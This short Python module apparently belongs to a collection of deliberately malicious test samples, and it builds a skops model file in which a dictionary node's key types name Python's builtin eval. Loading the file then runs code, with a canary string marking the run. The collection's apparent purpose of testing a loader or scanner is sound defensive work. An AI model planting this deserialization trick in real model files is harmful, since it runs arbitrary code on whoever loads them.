"""DictNode calls whatever its key types name."""

from __future__ import annotations

from malicious_samples.recipes import dictionary, json_node, node, python, sequence, skops


def build(canary: str) -> bytes:
    root = dictionary(**{python(canary): json_node(1)})
    root["key_types"] = sequence("list", node("TypeNode", "builtins", "eval"))
    return skops(root)
